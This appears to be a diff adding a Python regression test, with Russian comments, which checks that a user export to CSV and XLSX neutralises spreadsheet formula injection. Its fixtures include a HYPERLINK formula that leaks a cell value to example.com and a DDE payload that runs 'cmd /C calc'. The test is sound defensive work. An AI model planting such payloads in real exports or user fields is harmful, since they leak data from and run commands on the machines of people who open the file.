@@ -0,0 +1,48 @@
+#!/usr/bin/env python3
+"""
+Проверка выгрузки пользователей в файл: текст, похожий на формулу, не выполняется
+"""
+
+import csv
+import zipfile
+import tempfile
+
+from database import Database
+from file_export import export_users_to_file
+
+# Имя и запрос, которые табличный редактор выполнил бы как формулы
+FORMULA_NAME = '=HYPERLINK("http://example.com/?leak="&A1,"Нажмите")'
+FORMULA_REQUEST = '@SUM(1+1)*cmd|"/C calc"!A0'
+
+def test_csv_formula_injection():
+    """Ячейки CSV с формулой выгружаются с апострофом, телефоны - без изменений, XLSX - строкой"""
+    with tempfile.TemporaryDirectory(prefix="naumovado_export_") as tmp_dir:
+        db = Database(f"{tmp_dir}/naumovado.db")
+        db.add_user(1001, FORMULA_NAME, '-2+3', '+79991234567')
+        db.update_user_request(1001, FORMULA_REQUEST, 'text')
+        db.add_user(1002, 'Анна', None, '+79990000000')
+        db.update_user_request(1002, 'Обычный запрос', 'text')
+
+        path, count = export_users_to_file(db, tmp_dir, 'csv')
+        assert count == 2
+        with open(path, encoding='utf-8-sig', newline='') as f:
+            rows = list(csv.reader(f, delimiter=';'))
+        injected, plain = rows[1], rows[2]
+        assert injected[2] == "'" + FORMULA_NAME
+        assert injected[3] == "'-2+3"
+        assert injected[6] == "'" + FORMULA_REQUEST
+        assert not any(cell.startswith(('=', '@')) for row in rows for cell in row)
+        # Телефоны в E.164 и обычный текст не меняются
+        assert injected[4] == '+79991234567' and plain[4] == '+79990000000'
+        assert plain[2] == 'Анна' and plain[6] == 'Обычный запрос'
+
+        path, _ = export_users_to_file(db, tmp_dir, 'xlsx')
+        with zipfile.ZipFile(path) as archive:
+            sheet = archive.read('xl/worksheets/sheet1.xml').decode('utf-8')
+        assert '<f>' not in sheet
+        assert '<t xml:space="preserve">=HYPERLINK(' in sheet
+        db.close()
+    print("✅ Текст, похожий на формулу, выгружается как текст")
+
+if __name__ == "__main__":
+    test_csv_formula_injection()